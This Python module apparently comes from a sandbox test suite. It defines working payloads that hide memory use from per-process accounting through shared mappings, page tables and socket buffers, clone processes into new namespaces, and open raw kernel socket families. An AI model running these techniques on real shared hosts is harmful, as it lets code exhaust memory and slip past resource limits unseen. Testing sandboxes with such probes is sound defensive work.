"""Attacks that hold memory, or take namespaces, where a look at the processes' own memory shows nothing.

Every attack ends by itself: a few gigabytes, a few seconds.
"""

from attacks.handin import Attack
from attacks.remarks import MEMORY

_LIBC = """
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
FAILED = 2**64 - 1
"""

_SHARED = (
    _LIBC
    + """
part = 100 << 20
for n in range(40):
    place = libc.mmap(None, part, 3, 0x21, -1, 0)  # shared and anonymous
    if place == FAILED:
        raise MemoryError
    ctypes.memset(place, 1, part)
    libc.madvise(place, part, 4)  # the process lets go of the pages; the mapping holds them
time.sleep(3)
"""
)

_PAGE_TABLES = (
    _LIBC
    + """
for n in range(40):
    size = 50 << 30
    place = libc.mmap(None, size, 1, 0x4022, -1, 0)  # to be read alone, and without a reserve
    if place == FAILED:
        raise MemoryError
    libc.madvise(place, size, 15)  # small pages: each of them is the one page of zeros
    for at in range(place, place + size, 2 << 20):
        ctypes.c_char.from_address(at).value  # a page of the table for each: 100 MB for 50 GB of zeros
time.sleep(3)
"""
)

_SOCKETS = """
import os
import socket
import time

for child in range(40):
    try:
        pid = os.fork()
    except BlockingIOError:
        break  # no more processes are allowed: those that are there fill the buffers
    if pid == 0:
        pairs = []
        try:
            while True:
                pairs.append(socket.socketpair())
                for end in pairs[-1]:
                    end.setblocking(False)
                    try:
                        while end.send(bytes(100_000)):
                            pass
                    except BlockingIOError:
                        pass
        finally:
            time.sleep(5)
            os._exit(0)
time.sleep(10)
"""

_CLONED = """
import ctypes
import os
import platform
import time

libc = ctypes.CDLL(None, use_errno=True)
clone = 220 if platform.machine() == "aarch64" else 56
for flags in (0x10000000, 0x20000000, 0x30000000, 0x50000000, 0x10020000):
    child = libc.syscall(clone, flags | 17, 0, 0, 0, 0)
    if child == 0:
        held = [bytearray(b"x") * 100_000_000 for _ in range(15)]
        time.sleep(5)
        os._exit(0)
    print(hex(flags), "$LEAK a namespace of its own" if child > 0 else ctypes.get_errno())
"""

_FAMILIES = """
import socket

for family in (16, 17, 38, 40, 15, 31, 29, 21):
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        try:
            print("$LEAK a socket of the family", family, socket.socket(family, kind))
        except OSError as error:
            print(family, error)
"""

ATTACKS = (
    Attack("unseen-shared", 29, "4 GB of shared memory that no process maps", _SHARED, last=True, remark=MEMORY),
    Attack("unseen-tables", 29, "4 GB of page tables for a map of zeros", _PAGE_TABLES, last=True, remark=MEMORY),
    Attack("unseen-sockets", 29, "fills the buffers of 5,000 pairs of sockets", _SOCKETS, last=True, remark=MEMORY),
    Attack("unseen-clone", 0, "clones children into namespaces of their own, where they take memory", _CLONED),
    Attack("unseen-families", 0, "opens sockets to the kernel, to virtual machines and raw ones", _FAMILIES),
)
